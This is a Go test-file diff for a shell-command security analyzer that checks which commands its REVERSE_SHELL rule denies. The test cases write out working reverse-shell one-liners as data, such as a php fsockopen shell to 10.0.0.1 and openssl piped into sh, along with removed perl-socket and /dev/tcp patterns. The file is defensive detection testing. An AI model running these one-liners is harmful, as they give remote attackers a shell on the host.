@@ -87,8 +87,13 @@ func TestRemoteCodeAndReverseShells(t *testing.T) {
 		{Name: "fifo shell into nc", Facts: fifo, Rule: "REVERSE_SHELL", Want: deny},
 		{Name: "openssl s_client into sh", Facts: pipe(packtest.Cmd(0, "openssl", "s_client", "-quiet", "-connect", "h:443"), packtest.Cmd(0, "sh")), Rule: "REVERSE_SHELL", Want: deny},
 		{Name: "openssl base64 -d into sh is a decoder", Facts: pipe(packtest.Cmd(0, "echo", "bHM="), packtest.Cmd(0, "openssl", "base64", "-d"), packtest.Cmd(0, "sh")), Rule: "REVERSE_SHELL"},
-		{Name: "php fsockopen shell", Facts: sdk.Facts{Commands: []sdk.Command{packtest.Cmd(1, "php", "-r", `$s=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");`)}}, Rule: "REVERSE_SHELL", Want: deny},
-		{Name: "perl socket shell", Facts: sdk.Facts{Commands: []sdk.Command{packtest.Cmd(1, "perl", "-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));exec("/bin/sh -i");`)}}, Rule: "REVERSE_SHELL", Want: deny},
+		// Inline interpreter code: the bash analyzer's registry records the
+		// connection and whether a shell is attached to it (ExecShell); the
+		// code text alone decides nothing here.
+		{Name: "php fsockopen shell", Facts: sdk.Facts{Commands: []sdk.Command{packtest.Cmd(1, "php", "-r", `$s=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");`)},
+			Network: []sdk.NetworkUse{{Host: "10.0.0.1", Port: 1234, Scheme: "tcp", Via: "php fsockopen", ExecShell: true}}}, Rule: "REVERSE_SHELL", Want: deny},
+		{Name: "gawk client", Facts: sdk.Facts{Commands: []sdk.Command{packtest.Cmd(1, "gawk", `BEGIN{print "GET /" |& "/inet/tcp/0/github.com/80"}`)},
+			Network: []sdk.NetworkUse{{Host: "github.com", Port: 80, Scheme: "tcp", Via: "gawk |&"}}}, Rule: "REVERSE_SHELL"},
 		{Name: "perl one-liner", Facts: sdk.Facts{Commands: []sdk.Command{packtest.Cmd(1, "perl", "-ne", `print if /socket/`)}}, Rule: "REVERSE_SHELL"},
 		{Name: "python dup2 + pty", Lang: "python", Facts: pyShell, Rule: "REVERSE_SHELL", Want: deny},
 	})
@@ -150,18 +155,5 @@ func TestParseDest(t *testing.T) {
 	}
 	if d := parseDest("https://$HOST/api", true); d.Host != "" || !d.Dynamic {
 		t.Errorf("fully dynamic host: got %+v", d)
-	}
-}
-
-func TestMayOpenSocketCoversForeignSocket(t *testing.T) {
-	for _, code := range []string{"use Socket;socket(S,PF_INET,SOCK_STREAM,0)", "$s=fsockopen('h',1)", "IO::Socket::INET->new",
-		"TCPSocket.new('h',1)", "net.connect(1,'h')", "require( 'net' )", "exec 5<>/dev/tcp/h/1", "/inet/tcp/0/h/1",
-		"ſocket", "SOCKET", "NET.Connect"} {
-		if foreignSocket.MatchString(code) && !mayOpenSocket([]string{"-e", code}) {
-			t.Errorf("mayOpenSocket misses %q, which foreignSocket matches", code)
-		}
-	}
-	if mayOpenSocket([]string{"-F:", "{print $1}", "/etc/passwd"}) {
-		t.Error("plain awk code needs no regexp")
 	}
 }
